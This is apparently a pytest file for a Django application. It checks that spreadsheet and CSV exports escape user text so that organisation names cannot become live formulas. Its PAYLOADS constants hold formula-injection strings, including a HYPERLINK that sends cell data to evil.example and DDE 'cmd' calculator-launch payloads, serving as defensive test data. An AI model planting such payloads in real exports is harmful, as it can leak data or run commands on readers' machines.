"""Exports cannot attack their readers: user text never becomes a spreadsheet formula.

A partner member can rename their own organisation; before, a name such as
``=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")`` became a live formula in the board's
report.xlsx (17 formula cells) and CSV files wrote ``=cmd|' /C calc'!A0`` as it was. Here every
text field of a demo programme (with a survey, an agreement and a regiobeeld) gets a hostile
value, and every spreadsheet and CSV export is downloaded and read back.
"""

from __future__ import annotations

import csv
import io
import itertools
import re

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from samenspel.analytics.spreadsheets import FORMULA_STARTS, inert
from samenspel.web.core.models import Programme
from samenspel.web.dynamics.models import SurveyWave
from samenspel.web.finance.models import Agreement
from samenspel.web.monitoring.models import RegiobeeldRun
from samenspel.web.workspace.demo import load_demo

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Harmless in a comma-separated file, until Dutch Excel splits it on ";" (or a reader on tabs).
SPLIT_PAYLOADS = ("Zorggroep;=1+1", "Wijk,=cmd|' /C calc'!A0", "Team\t@SUM(1+1)", 'Regio; "=1+1"')
SKIP = {"token", "scenario", "data_version", "status", "path", "sharing", "result"}


def _poison(programme: Programme) -> int:
    """Give every free-text field of every record of ``programme`` a hostile value."""
    payloads = itertools.cycle(PAYLOADS)
    splits = itertools.cycle(SPLIT_PAYLOADS)
    changed = 0
    for model in apps.get_models():
        if not any(f.name == "programme" for f in model._meta.get_fields()):
            continue
        texts = [
            f for f in model._meta.get_fields()
            if isinstance(f, models.CharField | models.TextField)
            and not f.choices and f.name not in SKIP and not isinstance(f, models.EmailField)
        ]  # fmt: skip
        for obj in model._default_manager.filter(programme=programme):
            suffix = f" {obj.pk}"  # kept when a short field cuts the payload: values stay unique
            values = {
                f.name: f"{next(payloads)} {next(splits)}"[: (f.max_length or 500) - len(suffix)]
                + suffix
                for f in texts
            }
            if values:
                model._default_manager.filter(pk=obj.pk).update(**values)
                changed += 1
    Programme.objects.filter(pk=programme.pk).update(name=PAYLOADS[0])
    return changed


@pytest.fixture
def poisoned(db: None) -> tuple[Client, Programme]:
    load_demo(with_population=True)
    programme = Programme.objects.get(is_demo=True, name="Proeftuin Ruwaard")
    assert _poison(programme) > 50
    client = Client()
    client.force_login(get_user_model().objects.get(username="regisseur"))
    return client, Programme.objects.get(pk=programme.pk)


def _exports(programme: Programme) -> tuple[list[str], list[str]]:
    """Every spreadsheet and CSV download of the programme."""
    p = programme.pk
    agreement = Agreement.objects.filter(programme=programme).first()
    wave = SurveyWave.objects.filter(programme=programme).first()
    run = RegiobeeldRun.objects.filter(programme=programme, result__isnull=False).first()
    assert agreement and wave and run
    sheets = [
        f"/p/{p}/report.xlsx",
        f"/p/{p}/money/{agreement.pk}/agreement.xlsx",
        f"/p/{p}/population/runs/{run.pk}/regiobeeld.xlsx",
        f"/p/{p}/plan/regioplan.xlsx",
    ]
    csvs = [f"/p/{p}/waves/{wave.pk}/links.csv"]
    for source in ("survey", "groups", "interactions", "combined"):
        query = f"?wave={wave.pk}&source={source}&colour=organisation"
        csvs += [f"/p/{p}/dynamics/nodes.csv{query}", f"/p/{p}/dynamics/edges.csv{query}"]
    return sheets, csvs


def test_no_export_contains_a_formula_from_user_text(poisoned: tuple[Client, Programme]) -> None:
    client, programme = poisoned
    sheets, csvs = _exports(programme)
    hostile_cells = 0
    for url in sheets:
        response = client.get(url)
        assert response.status_code == 200, url
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (url, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, (url, cell.coordinate)
                        hostile_cells += 1
    assert hostile_cells >= 20  # the hostile names did reach the workbooks, as plain text
    neutralised = split = 0
    for url in csvs:
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.content.decode()
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                if value.startswith(FORMULA_STARTS):
                    float(value)  # only a plain negative number may start with "-"
                neutralised += value.startswith("'")
                split += any(f"{sep}'" in value for sep in ";,\t")
        # as Dutch Excel (";") or a tab-separated reader splits the same file: quotes that do
        # not open a cell are text there, so every line break may start a row
        for separator in (";", "\t", ","):
            for line in re.split(r"[\r\n]", text):
                for value in line.split(separator):
                    cell = value.lstrip(' "')
                    if cell.startswith(("=", "+", "-", "@")):
                        float(cell.rstrip('"'))
    assert neutralised >= 10
    assert split >= 4  # the split payloads did reach the CSV files, neutralised


@pytest.mark.parametrize("payload", PAYLOADS)
def test_inert_text_keeps_what_the_user_wrote(payload: str) -> None:
    assert inert(payload) == "'" + payload
    assert inert("Ziekenhuis Ruwaard") == "Ziekenhuis Ruwaard"
    assert inert(-3.5) == -3.5
